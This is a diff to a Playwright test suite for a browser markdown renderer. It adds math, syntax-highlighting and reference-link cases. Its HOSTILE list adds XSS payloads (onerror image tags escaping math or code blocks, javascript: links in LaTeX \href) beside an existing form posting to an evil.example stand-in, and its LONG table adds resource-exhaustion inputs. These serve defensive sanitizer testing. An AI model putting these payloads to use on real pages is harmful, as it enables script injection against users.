@@ -33,7 +33,7 @@ CASES = {
     "break by backslash": ("one\\\ntwo", "<p>one<br></br>two</p>"),
     "emphasis": (
         "*a* _b_ **c** __d__ ~~e~~",
-        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <del>e</del></p>",
+        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <s>e</s></p>",
     ),
     "both emphases": ("***a***", "<p><em><strong>a</strong></em></p>"),
     "emphasis in emphasis": ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
@@ -42,7 +42,7 @@ CASES = {
     "crossing emphasis": ("*a __b* c__", "<p><em>a __b</em> c__</p>"),
     "no emphasis in words": ("snake_case_name 2 * 3 * 4", "<p>snake_case_name 2 * 3 * 4</p>"),
     "asterisk in a word": ("un*believ*able", "<p>un<em>believ</em>able</p>"),
-    "long runs are text": ("****a****", "<p>****a****</p>"),
+    "long runs": ("****a****", "<p><strong><strong>a</strong></strong></p>"),
     "code span": ("`a*b*` and ``c`d``", "<p><code>a*b*</code> and <code>c`d</code></p>"),
     "code span keeps backslashes": ("`a\\`", "<p><code>a\\</code></p>"),
     "unclosed code span": ("`` a ` b", "<p>`` a ` b</p>"),
@@ -64,7 +64,7 @@ CASES = {
         "<p>[a " + link("https://x", "b") + " c](" + link("https://y") + ")</p>",
     ),
     "image is a link": ("![a](https://x.y/p.png)", "<p>" + link("https://x.y/p.png", "a") + "</p>"),
-    "unsafe address is text": ("[a](javascript:b)", "<p>a (javascript:b)</p>"),
+    "unsafe address is text": ("[a](javascript:b)", "<p>[a](javascript:b)</p>"),
     "headings": ("# a\n## b ##\n###### *c*", "<h3>a</h3><h4>b</h4><h6><em>c</em></h6>"),
     "headings keep their sharps": ("# C#\n#none", "<h3>C#</h3><p>#none</p>"),
     "rule": ("a\n\n---\n* * *\nb", "<p>a</p><hr></hr><hr></hr><p>b</p>"),
@@ -85,9 +85,9 @@ CASES = {
         "- a\n  - b\n    1. c\n- d",
         "<ul><li>a<ul><li>b<ol><li>c</li></ol></li></ul></li><li>d</li></ul>",
     ),
-    "carelessly nested list": (
+    "list without enough indentation": (
         "1. a\n  - b\n2. c",
-        "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>",
+        "<ol><li>a</li></ol><ul><li>b</li></ul><ol start=2><li>c</li></ol>",
     ),
     "text goes on in an item": ("- a\nb\n\nc", "<ul><li>a\nb</li></ul><p>c</p>"),
     "paragraphs in an item": ("- a\n\n  b", "<ul><li><p>a</p><p>b</p></li></ul>"),
@@ -103,7 +103,8 @@ CASES = {
     "list after a paragraph": ("a:\n- b\n1. c", "<p>a:</p><ul><li>b</li></ul><ol><li>c</li></ol>"),
     "tasks": (
         "- [x] a\n- [ ] b",
-        "<ul><li class=task><input></input> a</li><li class=task><input></input> b</li></ul>",
+        "<ul><li class=task><input checked=></input> a</li>"
+        "<li class=task><input></input> b</li></ul>",
     ),
     "empty item": ("-\n- a", "<ul><li></li><li>a</li></ul>"),
     "quote": ("> a\n> - b\nc", "<blockquote><p>a</p><ul><li>b\nc</li></ul></blockquote>"),
@@ -124,9 +125,24 @@ CASES = {
             "<th>a</th><th class=right>b</th>", "<tr><td>c</td><td class=right></td></tr>"
         ),
     ),
-    "table without rows": ("|a|\n|-|", TABLE.format("<th>a</th>", "")),
+    "table without rows": (
+        "|a|\n|-|",
+        TABLE.format("<th>a</th>", "").replace("<tbody></tbody>", ""),
+    ),
     "bars that are no table": ("a | b\nc | d", "<p>a | b\nc | d</p>"),
-    "html is text": ("<b>a</b> <!-- c --> &amp;", "<p><b>a</b> <!-- c --> &amp;</p>"),
+    "html is text": ("<b>a</b> <!-- c --> &amp;", "<p><b>a</b> <!-- c --> &</p>"),
+    "link by reference": (
+        "[a][b] and [b]\n\n- [ ] [b]\n\n[b]: https://x.y 't'",
+        f"<p>{link('https://x.y', 'a')} and {link('https://x.y', 'b')}</p>"
+        f"<ul><li class=task><input></input> {link('https://x.y', 'b')}</li></ul>",
+    ),
+    "mail address": ("at b@c.de.", "<p>at " + link("mailto:b@c.de", "b@c.de") + ".</p>"),
+    "file names are no hosts": ("readme.md, node.js", "<p>readme.md, node.js</p>"),
+    "highlighted listing": (
+        "```python\nif x: # y\n```",
+        CODE.format("<span class=hljs-keyword>if</span> x: <span class=hljs-comment># y</span>"),
+    ),
+    "unknown language": ("```nosuch\nif x\n```", CODE.format("if x")),
     "windows line ends": ("a\r\n\r\n- b\r\n- c", "<p>a</p><ul><li>b</li><li>c</li></ul>"),
     "nothing": ("", ""),
     "blank": ("\n \n\t\n", ""),
@@ -154,6 +170,7 @@ def test_as_it_comes_in(page: Page) -> None:
 PIECES = [
     *("a", "b ", "word", " ", "  ", "\n", "\n\n", "    ", "\t", "# ", "#", "- ", "* ", "1. "),
     *("> ", ">", "---", "***", "*", "**", "_", "~~", "`", "``", "```", "~~~", "```py\n", "\n```\n"),
+    *("$", "$$", "\n$$\n", "\\(", "\\)", "\\[", "\\]\n", "5", "\\frac{1}{2}", "[a]: https://x.y\n"),
     *("|", "|-|-|\n", "| a | b |\n", "[", "](", ")", "![", "https://a.b/c", "<", ">", "\\", "[x] "),
     *("<script>", "javascript:x", "é", "漢", "😀", "\r\n", "\u2028", "\x00"),
 ]  # fmt: skip
@@ -179,7 +196,7 @@ def test_random_texts(page: Page) -> None:
         }}""",
         documents,
     )
-    assert not wrong
+    assert not wrong, wrong[0]
 
 
 HOSTILE = [
@@ -207,6 +224,15 @@ HOSTILE = [
     "# <style>*{display:none}</style>",
     "<form action=https://evil.example><input name=key></form>",
     "<base href=https://evil.example>",
+    "\\(\\href{javascript:window.pwned=1}{a} \\url{javascript:window.pwned=1}\\)",
+    "$\\htmlData{x=1}{a} \\includegraphics{https://evil.example/x} \\htmlStyle{color:red}{b}$",
+    "$$\n<img src=x onerror=window.pwned=1>\n$$",
+    "$\\text{</annotation></math><img src=x onerror=window.pwned=1>}$",
+    "\\[\\def\\a{\\a\\a}\\a\\]",
+    "$\\rule{99999em}{99999em}$",
+    "```js\n</code></pre><img src=x onerror=window.pwned=1>\n```",
+    '```<img/src=x/onerror="window.pwned=1">\nx\n```',
+    "[a]: javascript:window.pwned=1\n\n[a]",
     "- [x](javascript:window.pwned=1)\n> <meta http-equiv=refresh content=0;url=//evil.example>",
 ]
 
@@ -257,6 +283,14 @@ LONG = {
     "link spaces": "[a](b" + " " * 100_000 + ")",
     "backslashes": "\\" * 100_000,
     "lines": "a\n" * 50_000,
+    "dollars": "$a " * 30_000,
+    "opened math": "\\(a " * 30_000,
+    "opened displays": "\\[\n" * 30_000,
+    "opened displays in quotes": "> $$\n" * 30_000,
+    "definitions": "".join(f"[{n}]: https://x.y\n" for n in range(5000)),
+    "braces": "$" + "{" * 4000 + "$",
+    "roots": "$" + "\\sqrt" * 900 + "x$",
+    "code": "```js\n" + "a({[/" * 9_000 + "\n```",
 }
 
 
@@ -288,13 +322,36 @@ def test_what_is_complete_stays(page: Page) -> None:
     def kept(selector: str, *texts: str) -> list[list[bool]]:
         return page.evaluate(GROW, [list(texts), selector])
 
-    assert kept("p", "one\n\ntwo\n\nthree\n", "one\n\ntwo\n\nthree\nfour") == [[True, True, False]]
+    assert kept("p", "one\n\ntwo\n\nthree\n", "one\n\ntwo\n\nthree\nfour") == [[True] * 3]
     assert kept("pre", "```py\na\n", "```py\na\nb", "```py\na\nbc\n") == [[True], [True]]
-    assert kept("pre", "```p", "```py\na") == [[False]]
-    assert kept("li", "- a\n- b\n- c", "- a\n- b\n- cd\n- e") == [[True, True, False]]
-    assert kept("li", "- a\n- b", "- a\n- b\n\n- c") == [[False, False]]
-    table = "|a|b|\n|-|-|\n|1|2|\n"
-    assert kept("tr", table, table + "|3", table + "|3|4|\n|5|") == [
-        [True] * 2,
-        [True, True, False],
+    assert kept("li", "- a\n- b\n- c", "- a\n- b\n- cd\n- e") == [[True] * 3]
+    assert kept("li", "- a\n- b", "- a\n- b\n\n- c") == [[True, False]]
+    assert kept("p", "a [b]\n\nc\n\nd\n", "a [b]\n\nc\n\nd\n\n[b]: https://x.y") == [
+        [True, False, False]
     ]
+    table = "|a|b|\n|-|-|\n|1|2|\n"
+    assert kept("tr", table, table + "|3", table + "|3|4|\n|5|") == [[True] * 2, [True] * 3]
+
+
+def test_a_growing_listing_is_not_parsed_again(page: Page) -> None:
+    """Text of an open listing is appended; colours come when it is closed."""
+    code = "".join(f"value_{n} = {n}\n" for n in range(500))
+    changes = page.evaluate(
+        """async (text) => {
+          const { MarkdownView } = await import("/static/markdown_view.js");
+          const element = document.createElement("div");
+          const view = new MarkdownView(element);
+          view.update(text.slice(0, 100));
+          const records = [];
+          const observer = new MutationObserver((found) => records.push(...found));
+          observer.observe(element, { childList: true, subtree: true, characterData: true });
+          for (let end = 101; end <= text.length; end += 1) view.update(text.slice(0, end));
+          records.push(...observer.takeRecords());
+          const kinds = new Set(records.map(({ type }) => type));
+          const whole = element.querySelector("pre").textContent;
+          view.update(text + "```\\n");
+          return [[...kinds], whole, element.querySelectorAll(".hljs-number").length];
+        }""",
+        "before\n\n```python\n" + code,
+    )
+    assert changes == [["characterData"], code, 500]
